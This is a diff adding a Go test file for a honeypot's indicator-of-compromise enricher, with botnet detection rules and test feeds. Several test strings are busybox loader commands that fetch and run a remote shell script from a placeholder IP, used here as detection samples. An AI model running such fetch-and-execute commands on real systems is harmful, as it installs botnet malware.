@@ -0,0 +1,236 @@
+/*
+* Honeytrap
+* Copyright (C) 2016-2017 DutchSec (https://dutchsec.com/)
+*
+* This program is free software; you can redistribute it and/or modify it under
+* the terms of the GNU Affero General Public License version 3 as published by the
+* Free Software Foundation.
+*
+* This program is distributed in the hope that it will be useful, but WITHOUT
+* ANY WARRANTY; without even the implied warranty of MERCHANTABILITY or FITNESS
+* FOR A PARTICULAR PURPOSE.  See the GNU Affero General Public License for more
+* details.
+*
+* You should have received a copy of the GNU Affero General Public License
+* version 3 along with this program in the file "LICENSE".  If not, see
+* <http://www.gnu.org/licenses/agpl-3.0.txt>.
+*
+* See https://honeytrap.io/ for more details. All requests should be sent to
+* licensing@honeytrap.io
+*
+* The interactive user interfaces in modified source and object code versions
+* of this program must display Appropriate Legal Notices, as required under
+* Section 5 of the GNU Affero General Public License version 3.
+*
+* In accordance with Section 7(b) of the GNU Affero General Public License version 3,
+* these Appropriate Legal Notices must retain the display of the "Powered by
+* Honeytrap" logo and retain the original copyright notice. If the display of the
+* logo is not reasonably feasible for technical reasons, the Appropriate Legal Notices
+* must display the words "Powered by Honeytrap" and retain the original copyright notice.
+ */
+package ioc
+
+import (
+	"io"
+	"io/ioutil"
+	"net"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/honeytrap/honeytrap/config"
+	"github.com/honeytrap/honeytrap/enrichers"
+	"github.com/honeytrap/honeytrap/event"
+)
+
+const testRules = `
+// loaders of botnets
+rule busybox_loader : botnet
+{
+	meta:
+		description = "Downloads and runs a loader"
+		confidence = 90
+	strings:
+		$a = "/bin/busybox" nocase
+		$b = /wget https?:\/\/[^ ]+\.sh/
+		$c = { 4d 49 52 ?? 49 }
+	condition:
+		$a and $b
+}
+
+rule mirai {
+	strings:
+		$a = { 4d 49 52 ?? 49 }
+	condition: any of them
+}
+`
+
+func TestParseRules(t *testing.T) {
+	rules, err := ParseRules(strings.NewReader(testRules))
+	if err != nil {
+		t.Fatal(err)
+	} else if len(rules) != 2 {
+		t.Fatalf("Expected 2 rules, got %d", len(rules))
+	}
+
+	tests := []struct {
+		data     string
+		expected []bool
+	}{
+		{"cd /tmp; wget http://192.0.2.1/x.sh; /BIN/BUSYBOX sh x.sh", []bool{true, false}},
+		{"/bin/busybox MIRAI", []bool{false, true}},
+		{"/bin/busybox MIRXI wget", []bool{false, true}},
+		{"uname -a", []bool{false, false}},
+	}
+
+	for _, tt := range tests {
+		for i, r := range rules {
+			if r.Match([]byte(tt.data)) != tt.expected[i] {
+				t.Errorf("Expected match of rule %s with %q to be %t", r.Name, tt.data, tt.expected[i])
+			}
+		}
+	}
+
+	for _, s := range []string{
+		"rule x { strings: $a = \"a\" condition: any of them",
+		"rule x {\ncondition:\nany of them\n}",
+		"rule x {\nstrings:\n$a = \"a\" wide\ncondition:\nany of them\n}",
+		"rule x {\nstrings:\n$a = \"a\"\ncondition:\n$a and $b\n}",
+		"rule x {\nstrings:\n$a = \"a\"\n$b = \"b\"\ncondition:\n$a and $b or $a\n}",
+	} {
+		if _, err := ParseRules(strings.NewReader(s)); err == nil {
+			t.Errorf("Expected error parsing %q", s)
+		}
+	}
+}
+
+func TestIOC(t *testing.T) {
+	dir, err := ioutil.TempDir("", "ioc")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	defer os.RemoveAll(dir)
+
+	files := map[string]string{
+		"abuse.txt": `# confidence: 80
+192.0.2.1
+198.51.100.0/24 30
+evil.example.com
+http://bad.example.org/payload.sh
+# feed: malware
+d41d8cd98f00b204e9800998ecf8427e 95
+`,
+		"botnet.yar": testRules,
+	}
+
+	for name, content := range files {
+		if err := ioutil.WriteFile(filepath.Join(dir, name), []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	e, err := New(func(e enrichers.Enricher) error {
+		e.(*IOC).Paths = []string{dir}
+		e.(*IOC).AlertConfidence = 75
+		e.(*IOC).Refresh = config.Delay(10 * time.Millisecond)
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	defer e.(io.Closer).Close()
+
+	tests := []struct {
+		name       string
+		event      event.Event
+		feed       string
+		indicator  string
+		confidence int
+		severity   string
+	}{
+		{"address", event.New(
+			event.SourceIP(net.ParseIP("192.0.2.1")),
+		), "abuse", "192.0.2.1", 80, "warning"},
+		{"network", event.New(
+			event.SourceIP(net.ParseIP("198.51.100.7")),
+		), "abuse", "198.51.100.0/24", 30, ""},
+		{"subdomain", event.New(
+			event.Custom("http.host", "www.evil.example.com:8080"),
+		), "abuse", "evil.example.com", 80, "warning"},
+		{"url", event.New(
+			event.Custom("http.host", "bad.example.org"),
+			event.Custom("http.url", "/payload.sh?x=1"),
+		), "abuse", "http://bad.example.org/payload.sh", 80, "warning"},
+		{"hash", event.New(
+			event.Payload([]byte{}),
+			event.Custom("download.md5", "D41D8CD98F00B204E9800998ECF8427E"),
+		), "malware", "d41d8cd98f00b204e9800998ecf8427e", 95, "warning"},
+		{"rule", event.New(
+			event.Severity("error"),
+			event.Payload([]byte("wget http://192.0.2.1/x.sh; /bin/busybox sh x.sh")),
+		), "botnet", "busybox_loader", 90, "error"},
+		{"none", event.New(
+			event.SourceIP(net.ParseIP("203.0.113.1")),
+			event.Custom("http.host", "example.com"),
+		), "", "", 0, ""},
+	}
+
+	for _, tt := range tests {
+		if err := e.Enrich(tt.event); err != nil {
+			t.Fatal(err)
+		}
+
+		if tt.feed == "" {
+			if tt.event.Has("ioc.matches") {
+				t.Errorf("%s: expected no matches", tt.name)
+			}
+
+			continue
+		}
+
+		if tt.event.Get("ioc.feed") != tt.feed {
+			t.Errorf("%s: expected feed %s, got %s", tt.name, tt.feed, tt.event.Get("ioc.feed"))
+		}
+
+		if tt.event.Get("ioc.indicator") != tt.indicator {
+			t.Errorf("%s: expected indicator %s, got %s", tt.name, tt.indicator, tt.event.Get("ioc.indicator"))
+		}
+
+		if c, _ := tt.event.GetInt("ioc.confidence"); c != int64(tt.confidence) {
+			t.Errorf("%s: expected confidence %d, got %d", tt.name, tt.confidence, c)
+		}
+
+		if tt.event.Get("severity") != tt.severity {
+			t.Errorf("%s: expected severity %q, got %q", tt.name, tt.severity, tt.event.Get("severity"))
+		}
+	}
+
+	// modified feeds are loaded again
+	name := filepath.Join(dir, "abuse.txt")
+	if err := ioutil.WriteFile(name, []byte("203.0.113.1\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	future := time.Now().Add(time.Minute)
+	if err := os.Chtimes(name, future, future); err != nil {
+		t.Fatal(err)
+	}
+
+	// the feeds are loaded in the background
+	for start := time.Now(); ; time.Sleep(10 * time.Millisecond) {
+		ev := event.New(event.SourceIP(net.ParseIP("203.0.113.1")))
+		if err := e.Enrich(ev); err != nil {
+			t.Fatal(err)
+		} else if ev.Get("ioc.feed") == "abuse" {
+			break
+		}
+
+		if time.Since(start) > 2*time.Second {
+			t.Fatal("Expected modified feed to be loaded")
+		}
+	}
+}